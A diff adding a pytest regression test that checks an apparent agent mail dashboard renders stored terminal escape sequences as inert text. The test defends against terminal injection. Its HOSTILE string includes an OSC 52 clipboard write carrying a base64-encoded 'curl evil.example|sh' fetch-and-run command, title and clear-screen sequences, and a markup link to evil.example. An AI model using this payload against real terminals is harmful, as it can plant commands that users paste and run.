@@ -195,3 +195,66 @@ def test_web_refuses_a_port_in_use():
                               env=process_env(), capture_output=True, timeout=60)
     assert done.returncode == 2 and done.stdout == b""
     assert json.loads(done.stderr)["problems"][0]["field"] == "--port"
+
+
+# What an identity could store before refs and attachment names refused control characters (or an older version
+# stored): an OSC 0 title, an OSC 52 clipboard write (of "curl evil.example|sh"), a clear screen and an 8-bit CSI.
+HOSTILE = "x\x1b]0;pwned\x1b\\ \x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\ \x1b[2J \x9b31m"
+MARKUP = ("fix [/bold] now", "[link=https://evil.example]notes[/link]")
+
+
+@pytest.mark.requires("tmux")
+def test_text_from_mail_reaches_the_terminal_as_text(tmp_path, mailbox_path):
+    """Subjects that are markup to Rich and a ref, an attachment name and a body full of control sequences: the
+    dashboard lives, shows each as text (the sequences written out), and writes none of them to the terminal."""
+    import sqlite3
+
+    (tmp_path / "notes.txt").write_text("x")
+    for subject in MARKUP:
+        am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", subject)
+    hostile = am_process("send", "--from", "ops:lead", "--to", "web:worker", "--subject", "escapes",
+                         "--ref", str(tmp_path / "notes.txt"), "--attach", str(tmp_path / "notes.txt"))["id"]
+    with sqlite3.connect(mailbox_path) as db:  # as stored by an older version: send refuses them
+        db.execute("UPDATE messages SET refs = ?, body = ? WHERE id = ?",
+                   (json.dumps(["/srv/" + HOSTILE]), "body " + HOSTILE, hostile))
+        db.execute("UPDATE attachments SET name = ? WHERE message_id = ?", (HOSTILE, hostile))
+    db.close()
+
+    tmux = ["tmux", "-S", str(tmp_path / "tmux.sock")]
+    name, raw, go = "dashboard", tmp_path / "raw.out", tmp_path / "go"
+    env = process_env(TERM="xterm-256color")
+    # The dashboard starts once every byte the pane receives is copied to raw.out (pipe-pane), so the file
+    # holds all it ever wrote to its terminal.
+    command = " ".join(["while [ ! -e", str(go), "]; do sleep 0.05; done;", "env",
+                        f"AGENT_MAIL_DB={os.environ['AGENT_MAIL_DB']}", f"PYTHONPATH={env['PYTHONPATH']}",
+                        f"HOME={os.environ['HOME']}", "TERM=xterm-256color", sys.executable, "-m", "agent_mail",
+                        "dashboard", ";", "echo", "dashboard-exited-$?", ";", "sleep", "60"])
+    subprocess.run([*tmux, "new-session", "-d", "-s", name, "-x", "200", "-y", "50", command], check=True, env=env)
+
+    def pane():
+        return subprocess.run([*tmux, "capture-pane", "-p", "-J", "-t", name], capture_output=True,
+                              text=True).stdout
+
+    try:
+        subprocess.run([*tmux, "pipe-pane", "-t", name, f"cat >> {raw}"], check=True)
+        go.touch()
+        until(lambda: "web:worker" in pane() and "identities" in pane(), 30, f"the Fleet never showed:\n{pane()}")
+        subprocess.run([*tmux, "send-keys", "-t", name, "2"], check=True)
+        # The newest send (the hostile one) is selected and shown in full; the markup subjects are shown as written.
+        until(lambda: all(subject in pane() for subject in MARKUP) and "pwned" in pane(), 20,
+              f"Traffic never showed the sends as text:\n{pane()}")
+        subprocess.run([*tmux, "send-keys", "-t", name, "Enter"], check=True)  # its thread, opened
+        until(lambda: "in reply to" not in pane() and pane().count("\\x1b]0;pwned") >= 3, 20,
+              f"the thread never showed the sequences written out:\n{pane()}")
+        shown = pane()
+        assert "\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\x1b\\" in shown and "\\x1b[2J \\x9b31m" in shown, shown
+        subprocess.run([*tmux, "send-keys", "-t", name, "q"], check=True)
+        until(lambda: "dashboard-exited-0" in pane(), 20, f"q did not end the dashboard cleanly:\n{pane()}")
+        assert "Traceback" not in pane() and "MarkupError" not in pane()
+    finally:
+        subprocess.run([*tmux, "kill-server"], capture_output=True)
+    written = raw.read_bytes()
+    assert b"pwned" in written  # the text did go to the terminal, as text:
+    for sequence in (b"\x1b]0;pwned", b"\x1b]52;", b"\x1b]8;", b"\x1b[2J \xc2\x9b", b"\x1b\\"):
+        assert sequence not in written, sequence
+    assert "\x9b" not in written.decode("utf-8", "replace")  # no C1 control (UTF-8 encoded) from mail either
